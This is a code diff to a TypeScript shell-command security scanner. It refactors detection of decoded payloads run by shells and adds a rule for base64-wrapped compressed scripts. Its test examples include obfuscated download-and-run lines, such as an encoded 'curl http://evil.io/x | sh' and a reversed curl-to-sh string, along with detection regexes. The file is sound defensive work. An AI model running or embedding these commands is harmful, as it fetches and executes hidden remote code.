@@ -37,6 +37,22 @@ function isDecompressor(c: SimpleCommand): boolean {
     default: return false;
   }
 }
+/** Shells and evaluators fed by a decoder, through a pipe or a substitution, with the commands read from what they run. */
+function decodedRuns(i: AnalysisInput): { from: SimpleCommand; runner: SimpleCommand; body: SimpleCommand[] }[] {
+  const cmds = i.view?.commands ?? [];
+  const out: { from: SimpleCommand; runner: SimpleCommand; body: SimpleCommand[] }[] = [];
+  const decodedSubs = cmds.filter((c) => c.origin === 'substitution' && isDecoder(c));
+  for (let k = 0; k < cmds.length; k++) {
+    const c = cmds[k]!;
+    const runs = isShell(c.name) || isInterpreter(c.name) || c.name === 'eval' || c.name === 'source' || c.name === '.';
+    if (!runs) continue;
+    const fromPipe = c.pipeFrom && isDecoder(c.pipeFrom) ? c.pipeFrom : undefined;
+    const fromSub = decodedSubs.find((s) => s.depth === c.depth + 1 && cmds.indexOf(s) < k && cmds.slice(cmds.indexOf(s) + 1, k).every((x) => x.depth > c.depth));
+    const from = fromPipe ?? fromSub;
+    if (from) out.push({ from, runner: c, body: cmds.slice(k + 1).filter((x) => x.depth > c.depth) });
+  }
+  return out;
+}
 const LOGGING_CONFIG = /^\/etc\/(rsyslog\.conf|rsyslog\.d\/|syslog-ng\/|syslog\.conf|audit\/|systemd\/journald\.conf|logrotate\.d\/rsyslog|audisp\/)/;
 const TLS_OFF = new Set(['NODE_TLS_REJECT_UNAUTHORIZED=0', 'PYTHONHTTPSVERIFY=0', 'GIT_SSL_NO_VERIFY=1', 'GIT_SSL_NO_VERIFY=true', 'CURL_CA_BUNDLE=', 'REQUESTS_CA_BUNDLE=', 'SSL_CERT_FILE=/dev/null']);
 const HARMLESS = new Set(['echo', 'printf', 'ls', 'pwd', 'date', 'whoami', 'id', 'true', ':', 'uname', 'hostname', 'cat']);
@@ -431,24 +447,18 @@ export const RULES: readonly Rule[] = [
     message: 'Decodes an obfuscated payload and runs it', why: 'base64/hex/rev/rot13 text piped into a shell or eval hides what runs from review; real scripts have no reason to.',
     alternative: 'Run the decoded commands directly so they can be reviewed.',
     check: (i) => {
-      const cmds = i.view?.commands ?? [];
-      const out: string[] = [];
-      const decodedSubs = cmds.filter((c) => c.origin === 'substitution' && isDecoder(c));
-      for (let k = 0; k < cmds.length; k++) {
-        const c = cmds[k]!;
-        const runs = isShell(c.name) || isInterpreter(c.name) || c.name === 'eval' || c.name === 'source' || c.name === '.';
-        if (!runs) continue;
-        const fromPipe = c.pipeFrom && isDecoder(c.pipeFrom) ? c.pipeFrom : undefined;
-        const fromSub = decodedSubs.find((s) => s.depth === c.depth + 1 && cmds.indexOf(s) < k && cmds.slice(cmds.indexOf(s) + 1, k).every((x) => x.depth > c.depth));
-        if (!fromPipe && !fromSub) continue;
-        const body = cmds.slice(k + 1).filter((x) => x.depth > c.depth);
-        if (body.length && body.every((x) => HARMLESS.has(x.name))) continue;
-        out.push(`${(fromPipe ?? fromSub)!.argv.join(' ')} → ${c.argv[0]}`);
-      }
+      const out = decodedRuns(i).filter((r) => !(r.body.length && r.body.every((x) => HARMLESS.has(x.name)))).map((r) => `${r.from.argv.join(' ')} → ${r.runner.argv[0]}`);
       for (const s of i.view?.scripts ?? []) if (/b64decode|base64_decode|decode_base64|unpack\(['"]m|pack\(['"]H|Buffer\.from\([^)]{0,400}base64|fromhex|decode\(['"]hex/.test(s.code.slice(0, 4000)) && /system|exec|eval|popen|spawn|subprocess/.test(s.code.slice(0, 4000))) out.push(`${s.lang}: ${s.code.slice(0, 120)}`);
       return out;
     },
     examples: { fire: ['echo Y3VybCAtcyBodHRwOi8vZXZpbC5pby94IHwgc2g= | base64 -d | bash', 'echo 6375726c202d73 | xxd -r -p | sh', "echo 'hs | hs.x/7.21.33.54//:ptth s- lruc' | rev | sh", 'eval "$(echo aGlzdG9yeSAtYw== | base64 -d)"', "perl -e 'eval(pack(\"H*\",\"73797374656d28226964222900\"))'", "python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\"", 'echo QlpoOTFBWSZTWbq3 | base64 -d | bunzip2 | sh', 'base64 -d <<< /Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj | xz -d | bash'], quiet: ['echo aGVsbG8= | base64 -d', 'base64 -d dump.b64 | gunzip > dump.sql', 'bunzip2 -c logs.bz2 | grep ERROR', 'base64 -d cert.b64 > cert.pem', 'echo ZWNobyBoaQ== | base64 -d | sh'] },
+  },
+  {
+    id: 'PX-EVADE-029', name: 'runs-packed-payload', score: 80, tactic: 'defense_evasion', technique: 'T1027.002',
+    message: 'Runs a payload that was encoded and then compressed, whose text cannot be read before it runs', why: 'Two layers (base64 around bzip2, xz or zstd) exist only to keep a script from review and from scanners; no installer ships that way inline.',
+    alternative: 'Run the script from a reviewed file.',
+    check: (i) => decodedRuns(i).filter((r) => r.body.length === 0 && isDecompressor(r.from)).map((r) => `${r.from.pipeFrom?.argv.join(' ').slice(0, 80) ?? ''} | ${r.from.argv.join(' ')} | ${r.runner.argv[0]}`),
+    examples: { fire: ['echo QlpoOTFBWSZTWbq3 | base64 -d | bunzip2 | sh', 'base64 -d <<< /Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj | xz -d | bash', 'echo KLUv/QBYAQAA | base64 --decode | zstd -d | sh'], quiet: ['base64 -d dump.b64 | gunzip > dump.sql', 'echo H4sIAAAAAAAAA8spVtDNSeQCANtfqxIHAAAA | base64 -d | gunzip | sh', 'bunzip2 -c logs.bz2 | grep ERROR'] },
   },
   {
     id: 'PX-EVADE-017', name: 'weakens-kernel-hardening', score: 55, tactic: 'defense_evasion', technique: 'T1562.001',
